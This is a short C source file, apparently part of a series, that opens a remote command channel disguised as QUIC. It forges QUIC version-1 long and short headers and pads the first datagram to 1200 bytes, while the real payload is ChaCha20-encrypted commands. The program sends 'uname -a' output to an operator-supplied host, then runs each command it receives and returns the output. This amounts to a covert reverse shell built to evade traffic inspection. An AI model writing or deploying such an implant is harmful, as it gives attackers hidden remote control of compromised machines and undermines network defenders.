/*
 * AN0401: commands in datagrams that look like QUIC from outside: a long header of version 1 on the first, padded to 1200 bytes, short
 * headers after it; beneath them no QUIC, but ChaCha20.
 * usage: quic ADDRESS PORT
 */
#include <string.h>
#include <sys/socket.h>

#include "answers.h"
#include "dressed.h"
#include "link.h"

#define ID_LEN 8
#define LONG_HEAD (1 + 4 + 1 + ID_LEN + 1 + 1 + 2)
#define SHORT_HEAD (1 + ID_LEN)

static uint8_t id[ID_LEN];

static void say(int fd, const char *text, size_t len, int first)
{
	static uint8_t bytes[DRESSED_MAX];
	size_t size = dressed_seal(bytes, first ? LONG_HEAD : SHORT_HEAD, text, len, first ? 1200 : 0);
	uint8_t flags;

	link_random(&flags, 1);
	if (first) {
		size_t rest = size - LONG_HEAD;

		memcpy(bytes, (uint8_t[]){ 0xc0 | (flags & 0x0f), 0, 0, 0, 1, ID_LEN }, 6);
		memcpy(bytes + 6, id, ID_LEN);
		memcpy(bytes + 6 + ID_LEN, (uint8_t[]){ 0, 0, 0x40 | (uint8_t)(rest >> 8), (uint8_t)rest }, 4);
	} else {
		bytes[0] = 0x40 | (flags & 0x3f);
		memcpy(bytes + 1, id, ID_LEN);
	}
	link_send(fd, bytes, size);
}

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	static uint8_t bytes[DRESSED_MAX];
	char command[256];
	ssize_t got;
	size_t len;
	int fd;

	if (argc != 3)
		return 64;
	fd = link_open(argv[1], argv[2], SOCK_DGRAM);
	link_random(id, ID_LEN);
	say(fd, text, answer("uname -a", text), 1);
	while ((got = recv(fd, bytes, sizeof(bytes), 0)) > 0) {
		if (dressed_open(bytes, (size_t)got, SHORT_HEAD, command, sizeof(command)) < 0)
			return 1;
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, text, len, 0);
	}
	return 1;
}
